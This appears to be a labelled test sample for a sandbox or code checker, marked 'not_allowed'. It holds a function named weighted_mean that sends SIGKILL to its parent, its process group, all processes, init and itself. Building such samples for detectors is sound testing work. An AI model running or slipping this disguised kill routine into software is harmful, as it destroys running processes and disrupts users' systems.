"""verdict: not_allowed
Kills its parent, its group and everybody.
"""

import os


def weighted_mean(scores, values, scale):
    refused = 0
    targets = [os.getppid(), 0, -1, 1, os.getpid()]
    for target in targets:
        try:
            os.kill(target, 9)
        except PermissionError:
            refused += 1
    if refused == len(targets):
        raise PermissionError
